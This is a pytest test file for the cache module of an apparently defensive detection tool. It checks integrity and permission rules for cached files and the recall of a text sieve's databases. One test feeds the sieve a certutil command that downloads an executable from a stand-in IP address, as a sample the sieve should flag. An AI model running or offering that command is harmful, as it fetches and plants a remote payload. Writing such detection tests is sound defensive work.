"""What is kept in the user's cache folder: only what is ours, whole and of these very files is ever taken from it."""

from __future__ import annotations

import os
from collections.abc import Iterator
from pathlib import Path
from typing import Any

import pytest

from tidewaiter.catalog import attack, kept, languages, places, powershell, roles, utilities, weights, windows_environment, wire
from tidewaiter.reading import sieve

pytestmark = pytest.mark.skipif(not hasattr(os, "geteuid"), reason="nothing is kept where files have no owner")


@pytest.fixture
def folder(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> Iterator[Path]:
    """A cache folder that this process has not seen yet."""
    place = tmp_path / "cache"
    monkeypatch.setenv(kept.VARIABLE, str(place))
    kept._folder.cache_clear()
    yield place
    for answered in (kept._folder, sieve._at_hand, sieve._hyperscan):
        answered.cache_clear()


def test_what_is_kept_comes_back_under_its_key_only(folder: Path) -> None:
    kept.keep("thing", "a1", b"content")

    assert kept.recall("thing", "a1") == b"content"
    assert kept.recall("thing", "a2") is None
    assert kept.recall("other", "a1") is None
    assert folder.stat().st_mode & 0o777 == 0o700
    assert [entry.name for entry in folder.iterdir()] == ["thing-a1"], "nothing unfinished is left behind"


def _cut(file: Path) -> None:
    file.write_bytes(file.read_bytes()[:-1])


def _changed(file: Path) -> None:
    file.write_bytes(file.read_bytes()[:-1] + b"!")


def _writable(file: Path) -> None:
    file.chmod(0o620)


def _link(file: Path) -> None:
    file.rename(file.with_name("elsewhere"))
    file.symlink_to(file.with_name("elsewhere"))


def _empty(file: Path) -> None:
    file.write_bytes(b"")


as_root = pytest.mark.skipif("os.geteuid() != 0", reason="only root gives a file away")


def _foreign(file: Path) -> None:
    os.chown(file, 12_345, -1)


@pytest.mark.parametrize(
    "spoil",
    [_cut, _changed, _writable, _link, _empty, pytest.param(_foreign, marks=as_root)],
)
def test_a_file_that_is_damaged_or_not_ours_alone_is_not_taken(folder: Path, spoil: object) -> None:
    kept.keep("thing", "a1", b"content")
    assert kept.recall("thing", "a1") == b"content"
    assert callable(spoil)
    spoil(folder / "thing-a1")

    assert kept.recall("thing", "a1") is None


@pytest.mark.parametrize("mode", [0o770, 0o707, 0o702])
def test_a_folder_to_which_others_may_write_is_not_used(folder: Path, mode: int) -> None:
    folder.mkdir()
    folder.chmod(mode)
    kept.keep("thing", "a1", b"content")

    assert not kept.usable()
    assert list(folder.iterdir()) == []


@pytest.mark.parametrize("named", ["", "relative/folder", "/dev/null/x", "/proc/nothing"])
def test_without_a_folder_all_is_worked_out(named: str, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setenv(kept.VARIABLE, named)
    kept._folder.cache_clear()
    made: list[int] = []

    def make() -> int:
        made.append(1)
        return 7

    try:
        assert [kept.worked_out("thing", int, ("catalog/kept.py",), make) for _ in range(2)] == [7, 7]
    finally:
        kept._folder.cache_clear()
    assert len(made) == 2


def test_a_changed_file_is_worked_out_anew(folder: Path, tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    package = tmp_path / "package"
    (package / "knowledge").mkdir(parents=True)
    monkeypatch.setattr("tidewaiter.catalog.kept.resources.files", lambda name: package)
    answers: list[str] = []
    for content in ("one", "one", "two"):
        (package / "knowledge" / "a.toml").write_text(content)
        kept.shipped.cache_clear()
        kept._digest.cache_clear()
        answers.append(kept.worked_out("thing", str, ("knowledge",), lambda: f"{content} of {len(answers)}"))  # noqa: B023 - called at once
    kept.shipped.cache_clear()
    kept._digest.cache_clear()

    assert answers == ["one of 0", "one of 0", "two of 2"]


def test_few_versions_stay(folder: Path) -> None:
    for number in range(kept.VERSIONS_KEPT + 3):
        kept.keep("thing", f"{number}", b"content")
        os.utime(folder / f"thing-{number}", (number, number))
    kept.keep("other", "0", b"content")

    assert len(list(folder.glob("thing-*"))) == kept.VERSIONS_KEPT
    assert kept.recall("other", "0") == b"content"


def test_the_knowledge_is_the_same_from_the_folder(folder: Path) -> None:
    modules: list[Any] = [
        utilities, languages, powershell, roles, places, weights, wire, attack, windows_environment,
    ]  # fmt: skip
    for module in modules:
        module.load.cache_clear()
        module.load()
        assert list(folder.glob(f"{module.__name__.rpartition('.')[2]}-*"))
        module.load.cache_clear()
    for module in modules:
        made, again = module._shipped(), module.load()
        if module is utilities:
            again = again.utilities
        elif module is languages:
            again = tuple({one.name: one for one in again.values()}.values())
        assert again == made


def test_the_sieve_recalls_its_databases_and_answers_alike(folder: Path) -> None:
    pytest.importorskip("hyperscan", reason="the fast sieve is an extra, for which not every machine has a wheel")
    texts = ["certutil -urlcache -f http://198.51.100.7/a.exe a.exe", "svchost.exe -k netsvcs", "curl files.example.com"]

    def fresh() -> sieve.TextSieve:
        sieve._hyperscan.cache_clear()
        sieve._at_hand.cache_clear()
        return sieve.TextSieve()

    assert fresh()._engine is None, "nothing is kept yet, and few texts are not worth it"
    sieve.prepare()
    assert sorted(entry.name.rpartition("-")[0].rpartition("-")[0] for entry in folder.iterdir() if "sieve" in entry.name)
    recalled = fresh()
    assert recalled._engine is not None
    assert recalled.candidates(texts) == sieve.TextSieve("re").candidates(texts) == [True, False, True]
    for entry in folder.glob("sieve-second-*"):
        _changed(entry)
    assert fresh()._engine is None
    sieve.prepare()
    assert fresh().candidates(texts) == [True, False, True]
